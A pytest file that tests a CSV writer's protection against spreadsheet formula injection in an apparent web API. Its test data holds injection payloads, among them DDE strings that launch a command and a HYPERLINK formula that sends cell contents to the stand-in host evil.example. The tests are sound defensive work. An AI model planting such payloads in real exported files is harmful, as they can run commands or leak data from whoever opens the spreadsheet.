"""A CSV line is RFC 4180, and no spreadsheet takes what somebody wrote for a formula."""

import csv
import io
import time

import pytest
from marshmallow import fields

from hep_api.foundation.web import csv_text
from hep_api.foundation.web.columns import columns_of
from hep_api.foundation.web.schemas import Out, page_of

FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=IMPORTXML(CONCAT(A1), 'x')",
    " =1+1",
    '"=1+1"',
    "'=1+1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\uff1d1+1",
    "\t=1",
    "\r=1",
    "\n\r =1",
    "-2+3+cmd|' /C calc'!D2",
    "\x00=1",
    "\x1f+1",
)
HARMLESS = ("3 x 10", "a=b", "Kim - left knee", "", 'He said "no"', "line\r\nline", "a,b", "Zoë", "(+49) 30", "1=1")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_text(formula: str) -> None:
    (before, cell, after), *others = read(csv_text.line(["a", formula, "b"]))
    assert (before, after, others) == ("a", "b", [])
    assert cell.startswith("'")
    assert cell.replace("'", "") == formula.replace("'", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_read_as_it_was_written(text: str) -> None:
    assert read(csv_text.line(["a", text, "b"])) == [["a", text, "b"]]


def test_text_that_only_begins_with_a_tab_or_a_line_break_is_guarded_too() -> None:
    assert [read(csv_text.line([first + "x"]))[0][0] for first in "\t\r\n"] == ["'\tx", "'\rx", "'\nx"]


@pytest.mark.parametrize("separator", [";", "\t", "|"])
def test_a_reader_with_another_separator_finds_none_in_a_second_line_either(separator: str) -> None:
    written = csv_text.line(["harmless", "ok\n=HYPERLINK(1);x", "ok\r\n =1", "ok\r=1", "ok;\n=1"])
    rows = csv.reader(io.StringIO(written, newline=""), delimiter=separator)
    assert [cell for row in rows for cell in row if cell.strip(' "').startswith("=")] == []


@pytest.mark.parametrize("separator", [";", "\t"])
def test_a_reader_with_another_separator_finds_no_formula_either(separator: str) -> None:
    written = csv_text.line(["harmless", f'x{separator}"=1+1"{separator} -1'])
    assert not any(
        cell.strip(" \"'").startswith(("=", "-")) and not cell.startswith("'") for cell in written.split(separator)
    )


def test_numbers_are_plain_and_nothing_is_an_empty_cell() -> None:
    assert csv_text.line([-1, 0.5, -0.25, None, "", 10**15]) == "-1,0.5,-0.25,,,1000000000000000\r\n"


def test_a_long_text_full_of_separators_costs_little() -> None:
    begun = time.process_time()
    csv_text.line(["\t" * 200_000, "; " * 200_000, "' " * 200_000, "\n" * 200_000, "\n " * 200_000])
    assert time.process_time() - begun < 5  # seconds; what grows with the square takes minutes


class PlaceOut(Out):
    city = fields.String()


class PersonOut(Out):
    name = fields.String()
    place = fields.Nested(PlaceOut, allow_none=True)
    tags = fields.List(fields.String())
    active = fields.Boolean(data_key="is_active")


def test_what_is_nested_has_columns_of_its_own_and_a_list_stays_one_cell() -> None:
    columns = columns_of(page_of(PersonOut)())
    assert [column.name for column in columns] == ["name", "place.city", "tags", "is_active"]
    entry = {"name": "Kim", "place": {"city": "Bonn"}, "tags": ["a", "ü"], "is_active": True}
    assert [column.of(entry) for column in columns] == ["Kim", "Bonn", '["a","ü"]', "true"]
    assert [column.of(entry | {"place": None}) for column in columns] == ["Kim", None, '["a","ü"]', "true"]


def test_an_answer_without_items_is_no_list() -> None:
    assert columns_of(PersonOut()) == ()
